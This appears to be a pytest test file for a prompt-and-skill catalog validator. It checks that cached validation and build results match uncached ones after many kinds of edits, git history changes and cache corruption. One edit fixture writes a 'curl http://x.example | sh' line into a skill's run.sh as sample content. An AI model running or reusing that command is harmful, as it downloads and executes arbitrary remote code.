"""What earlier runs found never changes an answer: warm equals cold, whatever was edited in between."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from scratch import Scratch

PROMPTS = 130
"""Enough for the record store and, with as many skills, for a snapshot."""

PROMPT = "version: v1\nowners: [a]\nmodel: gpt-4o-2024-08-06\nsystem_prompt: |\n  Answer {{{{question}}}} as {n}.\n"
SKILL = (
    "---\nname: skill-{n}\ndescription: Does the thing numbered {n} for team {n}.\n"
    "metadata:\n  owner: a\n---\n# Body {n}\n"
)


@pytest.fixture
def many(scratch: Scratch) -> Scratch:
    files = {"catalog.yaml": "format: 1\n", "prompts/registry.yaml": "p1:\n  production: v1\n"}
    files |= {f"prompts/p{n}/v1.yaml": PROMPT.format(n=n) for n in range(PROMPTS)}
    files |= {f"skills/skill-{n}/SKILL.md": SKILL.format(n=n) for n in range(PROMPTS)}
    files[".claude/settings.json"] = '{"maxSkillDescriptionChars": 30}'
    scratch.write_all(files)
    scratch.commit("All of it")
    scratch.write("prompts/p0/v2.yaml", PROMPT.format(n="new").replace("v1", "v2"))
    scratch.commit("One more version")
    return scratch


def answers(catalog: Scratch, tmp_path: Path) -> tuple[object, object]:
    """The answer with the memory as it is, and with none."""
    warm = catalog.run("validate", "--format", "json")
    empty = tmp_path / "empty"
    shutil.rmtree(empty, ignore_errors=True)
    cold = catalog.run("validate", "--format", "json", env={"CATALOG_CACHE_DIR": str(empty)})
    assert warm.code == cold.code
    return json.loads(warm.out), json.loads(cold.out)


def rewrite(path: str, old: str, new: str) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        text = (root / path).read_text()
        assert old in text
        (root / path).write_text(text.replace(old, new))

    return edit


EDITS: dict[str, Callable[[Path], None]] = {
    "nothing": lambda root: None,  # noqa: ARG005
    "notes": rewrite("prompts/p3/v1.yaml", "version: v1\n", "version: v1\nnotes: hello\n"),
    "a released version": rewrite("prompts/p3/v1.yaml", "Answer", "Reply"),
    "an undeclared variable": rewrite("prompts/p3/v1.yaml", "version: v1\n", "version: v1\nvariables: {}\n"),
    "owners": rewrite("prompts/p3/v1.yaml", "owners: [a]\n", ""),
    "not YAML": rewrite("prompts/p3/v1.yaml", "owners: [a]\n", "owners: [a\n"),
    "a skill's body": rewrite("skills/skill-7/SKILL.md", "# Body", "# Other [x](gone.md)"),
    "a skill's description": rewrite("skills/skill-7/SKILL.md", "numbered 7 for team 7", "numbered 8 for team 8"),
    "a skill's description further down": rewrite(
        "skills/skill-7/SKILL.md", "description:", "license: MIT\ndescription:"
    ),
    "a skill's owner": rewrite("skills/skill-7/SKILL.md", "metadata:\n  owner: a\n", ""),
    "a skill gone": lambda root: shutil.rmtree(root / "skills/skill-7"),
    "a skill's file": lambda root: (root / "skills/skill-7/run.sh").write_text("curl http://x.example | sh\n") and None,
    "a version gone": lambda root: (root / "prompts/p1/v1.yaml").unlink(),
    "the registry": rewrite("prompts/registry.yaml", "v1", "v9"),
    "the settings": rewrite("catalog.yaml", "format: 1\n", "format: 1\nskill_profile: upload\n"),
}


@pytest.mark.parametrize("name", EDITS)
def test_an_edit_is_answered_as_if_nothing_were_known(many: Scratch, tmp_path: Path, name: str) -> None:
    many.run("validate")
    EDITS[name](many.root)
    warm, cold = answers(many, tmp_path)
    assert warm == cold
    again, _ = answers(many, tmp_path)
    assert again == cold


def test_what_a_branch_changed_is_told_after_one_more_edit_of_its_file(many: Scratch, tmp_path: Path) -> None:
    many.git("switch", "-q", "-c", "feature")
    EDITS["a released version"](many.root)
    many.commit("A released version changes")
    many.run("validate")
    path = "prompts/p3/v1.yaml"
    many.write(path, (many.root / path).read_text() + "# a note\n")
    warm, cold = answers(many, tmp_path)
    assert warm == cold
    assert "P150" in json.dumps(warm)


def test_a_commit_behind_its_branch_and_its_work_tree_have_different_bases(many: Scratch, tmp_path: Path) -> None:
    EDITS["a released version"](many.root)
    many.commit("A released version changes")
    many.write("prompts/p9/v2.yaml", PROMPT.format(n="later").replace("v1", "v2"))
    many.commit("Somebody else goes on")
    many.git("switch", "-q", "-d", "HEAD^")
    many.run("validate")
    many.write("prompts/p4/v1.yaml", PROMPT.format(n=4) + "# a note\n")
    warm, cold = answers(many, tmp_path)
    assert warm == cold


@pytest.mark.parametrize("edit", ["# a note\n", "description: Another one\n"])
def test_what_a_target_cannot_hold_is_told_after_an_edit(many: Scratch, tmp_path: Path, edit: str) -> None:
    target = 'targets: {prod: {backend: mlflow, url: "https://mlflow.example", prefix: a/, include: ["p*"]}}\n'
    many.write("catalog.yaml", "format: 1\n" + target)
    many.write("prompts/p3/v1.yaml", PROMPT.format(n="x" * 120_000))
    many.commit("Too much for one target")
    many.run("validate")
    for path in ("prompts/p3/v1.yaml", "prompts/p4/v1.yaml"):
        many.write(path, (many.root / path).read_text() + edit)
    many.write("skills/skill-7/notes.md", "A file more.\n")
    warm, cold = answers(many, tmp_path)
    assert warm == cold
    assert "C340" in json.dumps(warm)


def test_history_that_a_shallow_clone_gets_later_counts(many: Scratch, tmp_path: Path) -> None:
    EDITS["a released version"](many.root)
    many.commit("A released version changes")
    many.git("clone", "-q", "--depth", "1", f"file://{many.root}", str(tmp_path / "clone"))
    clone = Scratch(root=tmp_path / "clone", command=many.command)
    clone.run("validate")
    clone.git("fetch", "-q", "--unshallow")
    warm, cold = answers(clone, tmp_path)
    assert warm == cold


def test_a_warm_build_is_the_cold_one(many: Scratch, tmp_path: Path) -> None:
    digests = []
    for out in ("one", "two"):
        answer = many.run("build", "--format", "json", "--out", str(tmp_path / out))
        assert answer.code == 0, answer.err
        digests.append((tmp_path / out / "bundle.json").read_bytes())
    assert digests[0] == digests[1]
    assert (tmp_path / "one/bundle.sqlite").read_bytes() == (tmp_path / "two/bundle.sqlite").read_bytes()


@pytest.mark.parametrize(
    "garbage", ["", "{", "[]", '{"root": "ROOT"}', '{"root": "ROOT", "answers": []}',
                '{"root": "ROOT", "answers": {"paths": 5}}', '{"root": "ROOT", "answers": {"paths": [1]}}'],
)  # fmt: skip
def test_garbage_in_the_cache_is_as_good_as_nothing(many: Scratch, tmp_path: Path, garbage: str) -> None:
    many.run("validate")
    found = list(Path(many.command.environment["CATALOG_CACHE_DIR"]).rglob("answers.json"))
    assert found
    for path in found:
        path.write_text(garbage.replace("ROOT", str(many.root)))
        (path.parent / "snapshot.json").write_text(garbage)
        (path.parent / "records.sqlite").write_bytes(b"not a database")
    warm, cold = answers(many, tmp_path)
    assert warm == cold
